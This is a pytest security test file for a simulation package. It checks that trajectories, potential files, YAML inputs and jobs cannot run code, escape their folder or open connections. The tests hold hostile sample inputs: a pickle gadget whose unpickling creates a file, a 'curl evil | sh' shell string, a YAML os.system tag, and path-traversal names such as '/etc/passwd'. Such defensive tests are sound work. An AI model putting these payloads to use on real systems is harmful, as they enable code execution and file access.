"""What files and machines of others can and cannot do; docs/security.md says where the other tests are."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import yaml
from safetensors import safe_open
from safetensors.numpy import save_file

from aiida_difftre.engine.contract.jobs import Machine, SampleJob
from aiida_difftre.engine.contract.trajectories import read_trajectory, write_trajectory
from aiida_difftre.engine.contract.validation import validate
from aiida_difftre.engine.errors import EngineError
from aiida_difftre.engine.potentials import potential as potentials
from aiida_difftre.engine.runtime import device
from aiida_difftre.workchains.input_models import RunInput
from aiida_difftre.workchains.inputs import example, read_input
from tests.fixtures.nodes import argon, make_trajectory, potential_file

ROOT = Path(__file__).parents[2]

GUARD = """
import sys
def forbid(event, arguments):
    if event in {events!r}:
        raise SystemExit(f"forbidden: {{event}} {{arguments}}")
sys.addaudithook(forbid)
"""
"""Ends a process that does what is forbidden."""


def guarded(events: set[str], program: str, *arguments: str, folder: Path) -> subprocess.CompletedProcess[str]:
    """Run Python statements in a process of their own that ends at the first of some events."""
    command = [sys.executable, "-c", GUARD.format(events=events) + program, *arguments]
    environment = {**os.environ, "PYTHONPATH": os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")])}
    return subprocess.run(
        command, cwd=folder, env=environment, capture_output=True, text=True, timeout=300, check=False
    )


class Bomb:
    """An object whose unpickling makes a file."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        return Path.touch, (self.path,)


def test_a_pickle_in_a_trajectory_does_not_run(tmp_path: Path) -> None:
    path, made = tmp_path / "trajectory.npz", tmp_path / "made"
    write_trajectory(path, make_trajectory())
    with np.load(path) as archive:
        arrays = dict(archive)
    for name in ("species", "positions", "another"):
        np.savez(path, **{**arrays, name: np.array([Bomb(made)], dtype=object)})
        with zipfile.ZipFile(path) as archive:
            assert b"Path" in archive.read(f"{name}.npy")
        with pytest.raises(EngineError, match=r"trajectory\.npz"):
            read_trajectory(path)
        assert not made.exists()


@pytest.mark.parametrize("named", ["os.system", "antigravity:fly", "../../evil", "tests.security.test_threats:Bomb"])
def test_a_potential_names_code_and_none_runs(tmp_path: Path, named: str) -> None:
    path = potential_file(tmp_path / "potential.safetensors")
    with safe_open(path, "numpy") as content:
        metadata, arrays = content.metadata(), {name: content.get_tensor(name) for name in content.keys()}  # noqa: SIM118 (it is no mapping)
    changed = {key: text.replace("lennard_jones", named) for key, text in metadata.items()}
    assert changed != metadata
    save_file(arrays, path, changed)
    before = set(sys.modules)
    with pytest.raises(EngineError, match="unknown architecture") as caught:
        potentials.load(path)
    assert caught.value.message.isprintable()
    assert not {name for name in set(sys.modules) - before if name.split(".")[0] in ("antigravity", "webbrowser")}


def test_an_input_holds_shell() -> None:
    content = yaml.safe_load(example("diamond/quick.yaml").read_text())
    content["machines"] = {"sampling": {"options": {"prepend_text": "curl evil | sh"}}}
    run = validate(RunInput, content)
    assert run.machines.sampling.options["prepend_text"] == "curl evil | sh"


def test_reading_an_input_runs_nothing(tmp_path: Path) -> None:
    path = tmp_path / "input.yaml"
    path.write_text(example("argon/quick.yaml").read_text())
    for target in example("argon/targets/rdf.yaml").parent.iterdir():
        (tmp_path / "targets").mkdir(exist_ok=True)
        (tmp_path / "targets" / target.name).write_bytes(target.read_bytes())
    program = "from pathlib import Path\nfrom aiida_difftre.workchains.inputs import read_input\n"
    program += "read_input(Path(sys.argv[1]))\nprint('read')"
    events = {"subprocess.Popen", "os.system", "os.exec", "socket.connect", "pickle.find_class"}
    done = guarded(events, program, str(path), folder=tmp_path)
    assert (done.stdout.strip(), done.returncode) == ("read", 0), done.stderr[-1000:]
    path.write_text("label: !!python/object/apply:os.system ['touch made']\n" + path.read_text())
    with pytest.raises(ValueError, match="tag"):
        read_input(path)
    assert not (tmp_path / "made").exists()


@pytest.mark.parametrize("name", ["../potential.safetensors", "/etc/passwd", "a/b.safetensors", "..", "a\nb", ""])
def test_files_of_a_job_lie_beside_it(name: str) -> None:
    with pytest.raises(ValueError, match="potential"):
        validate(SampleJob, {"temperature": 85.0, "potential": name})


def test_a_cache_that_everybody_may_write_to_is_not_used(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    made = device._make_cache(Machine(compilation_cache=str(tmp_path / "new")))
    assert made is not None
    assert made.stat().st_mode & 0o077 == 0
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o777)
    with pytest.raises(EngineError, match="everybody may write to it"):
        device._make_cache(Machine(compilation_cache=str(shared)))
    monkeypatch.setenv("DIFFTRE_CACHE", str(shared))
    assert device._make_cache(Machine()) is None
    assert "everybody may write to it" in capsys.readouterr().err


@pytest.mark.slow
def test_a_job_opens_no_connection(tmp_path: Path) -> None:
    potential_file(tmp_path / "potential.safetensors")
    argon(1).write(tmp_path / "structure.extxyz")
    sampling = {"walkers": 1, "timestep_fs": 4.0, "equilibration_fs": 0.0, "production_fs": 80.0, "stride_fs": 40.0}
    (tmp_path / "job.json").write_text(json.dumps({"kind": "sample", "temperature": 85.0, "sampling": sampling}))
    program = "from aiida_difftre.engine.cli import cli\nsys.exit(cli(['sample', 'job.json']))"
    events = {"socket.connect", "socket.bind", "socket.getaddrinfo", "socket.sendto"}
    done = guarded(events, program, folder=tmp_path)
    assert done.returncode == 0, done.stderr[-2000:]
    assert (tmp_path / "results.json").is_file()
    done = guarded(events, "import socket\nsocket.create_connection(('127.0.0.1', 9))", folder=tmp_path)
    assert "forbidden" in done.stderr  # the guard works
